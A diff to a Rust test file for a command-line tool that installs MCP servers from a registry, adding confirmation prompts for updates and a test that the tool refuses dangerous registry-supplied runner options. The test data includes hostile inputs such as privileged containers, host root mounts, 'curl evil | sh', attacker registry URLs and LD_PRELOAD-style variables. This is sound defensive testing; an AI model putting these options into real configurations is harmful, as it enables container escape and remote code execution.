@@ -615,9 +615,15 @@ fn an_update_follows_the_registry_and_keeps_what_the_user_changed() {
         .json();
     assert_eq!(
         (&possible["servers"][0]["change"], text(&setup)),
-        (&json!("possible"), edited)
+        (&json!("possible"), edited.clone())
     );
-    let updated = run(&setup, &["update", "weather", "--no-check"])
+    // Without a person to ask, nothing that runs is changed.
+    let refused = run(&setup, &["update", "--all", "--no-check"]).code(1);
+    for part in ["@me/weather@1.0.0", "@me/weather@2.0.0", "CACHE", "--yes"] {
+        assert!(refused.stderr.contains(part), "`{part}` is not in {refused}");
+    }
+    assert_eq!(text(&setup), edited);
+    let updated = run(&setup, &["update", "weather", "--no-check", "--yes"])
         .code(0)
         .json();
     let report = &updated["servers"][0];
@@ -671,7 +677,7 @@ fn an_update_that_needs_to_know_more_asks_for_it_and_others_go_on() {
         json!({ "type": "named", "name": "--country", "isRequired": true, "format": "string" }),
     );
     registry.set(&[new, solo("1.1.0")]);
-    let updated = run(&setup, &["update", "--all", "--no-check"]).code(1);
+    let updated = run(&setup, &["update", "--all", "--no-check", "--yes"]).code(1);
     assert!(
         updated.stderr.contains("`weather`: ") && updated.stderr.contains("--set country=…"),
         "{updated}"
@@ -680,7 +686,7 @@ fn an_update_that_needs_to_know_more_asks_for_it_and_others_go_on() {
     assert_eq!(entry(&setup, "weather")["registry"]["version"], "1.0.0");
     let _ = run(
         &setup,
-        &["update", "weather", "--no-check", "--set", "country=de"],
+        &["update", "weather", "--no-check", "--yes", "--set", "country=de"],
     )
     .code(0);
     assert_eq!(
@@ -725,4 +731,95 @@ fn at_a_terminal_what_is_needed_is_asked_for_and_secrets_are_not_shown() {
         "${WEATHER_KEY}"
     );
     assert!(!text(&setup).contains("hunter2"));
+}
+
+/// A package whose runner is to be started with `arguments`.
+fn with_runtime(kind: &str, identifier: &str, arguments: Value) -> Value {
+    let package = json!({ "registryType": kind, "identifier": identifier, "version": "1.0.0", "transport": { "type": "stdio" }, "runtimeArguments": arguments });
+    listed("a.b/c", "1.0.0", json!({ "packages": [package] }))
+}
+
+#[test]
+fn a_registry_gives_a_runner_no_option_that_is_not_known_to_be_harmless() {
+    let words = |words: &[&str]| -> Value {
+        words.iter().map(|word| json!({ "type": "positional", "value": word })).collect()
+    };
+    let named = |name: &str, value: &str| json!([{ "type": "named", "name": name, "value": value }]);
+    let flag = |name: &str| json!([{ "type": "named", "name": name, "isRequired": true }]);
+    for (kind, identifier, arguments) in [
+        ("oci", "a/b", flag("--privileged")),
+        ("oci", "a/b", named("-v", "/:/host")),
+        ("oci", "a/b", words(&["--volume=/:/host"])),
+        ("oci", "a/b", named("--mount", "type=bind,src=/,dst=/host")),
+        ("oci", "a/b", words(&["run", "evil/image"])),
+        ("oci", "a/b", words(&["--rm", "evil/image"])),
+        ("oci", "a/b", words(&["-e", "A=1", "evil/image"])),
+        ("oci", "a/b", words(&["-e", "--privileged"])),
+        ("oci", "a/b", words(&["-e"])),
+        ("oci", "a/b", words(&["exec", "-i"])),
+        ("oci", "a/b", words(&["-iv/:/host"])),
+        ("npm", "p", words(&["-c", "curl evil | sh"])),
+        ("npm", "p", named("--registry", "https://evil.example")),
+        ("npm", "p", words(&["--registry=https://evil.example"])),
+        ("npm", "p", words(&["-y", "evil"])),
+        ("npm", "p", named("--package", "evil")),
+        ("npm", "p", words(&["--", "evil"])),
+        ("pypi", "p", words(&["--from=evil"])),
+        ("pypi", "p", named("--index-url", "https://evil.example")),
+        ("pypi", "p", named("--python", "/tmp/evil")),
+        ("pypi", "p", words(&["evil"])),
+        ("nuget", "A.B", named("--source", "https://evil.example")),
+        ("nuget", "A.B", words(&["--", "evil"])),
+    ] {
+        let registry = Fake::new(&[with_runtime(kind, identifier, arguments.clone())]);
+        let setup = registry.home();
+        let before = text(&setup);
+        let refused = run(&setup, &["add", "c", "--from-registry", "a.b/c", "--no-check", "--yes"]).code(1);
+        assert!(refused.stderr.contains("mcpzip does not pass on"), "{arguments}: {refused}");
+        assert_eq!(text(&setup), before, "{arguments}");
+    }
+    // A variable that steers the runner is as good as an option.
+    for name in ["npm_config_registry", "NODE_OPTIONS", "DOCKER_HOST", "LD_PRELOAD", "PATH", "UV_INDEX_URL"] {
+        let package = npm("p", "1.0.0", json!({ "environmentVariables": [{ "name": name, "value": "x" }] }));
+        let registry = Fake::new(&[listed("a.b/c", "1.0.0", package)]);
+        let setup = registry.home();
+        let refused = run(&setup, &["add", "c", "--from-registry", "a.b/c", "--no-check", "--yes"]).code(1);
+        assert!(refused.stderr.contains(name), "{name}: {refused}");
+    }
+    let fine = json!([
+        { "type": "positional", "value": "run" },
+        { "type": "named", "name": "--rm", "isRequired": true },
+        { "type": "named", "name": "-e", "value": "MODE={mode}", "variables": { "mode": { "default": "fast" } } },
+    ]);
+    let registry = Fake::new(&[with_runtime("oci", "a/b", fine)]);
+    let setup = registry.home();
+    let _ = run(&setup, &["add", "c", "--from-registry", "a.b/c", "--no-check"]).code(0);
+    assert_eq!(
+        entry(&setup, "c")["args"],
+        json!(["run", "-i", "--rm", "-e", "MODE=fast", "a/b:1.0.0"])
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn an_update_at_a_terminal_shows_what_would_run_and_asks() {
+    let registry = Fake::new(&[weather("1.0.0")]);
+    let setup = registry.home();
+    add_weather(&setup);
+    let before = text(&setup);
+    registry.set(&[weather("2.0.0")]);
+    let command = setup.command(&["update", "--all", "--no-check"]);
+    for (word, is_updated) in [("n", false), ("y", true)] {
+        let Some(terminal) = crate::support::terminal::Terminal::run(&command) else {
+            return;
+        };
+        let screen = terminal.shows("[y/N]");
+        assert!(
+            screen.contains("- @me/weather@1.0.0") && screen.contains("+ @me/weather@2.0.0"),
+            "{screen}"
+        );
+        terminal.types(word);
+        terminal.shows("[exit ");
+        assert_eq!(text(&setup) != before, is_updated);
+    }
 }
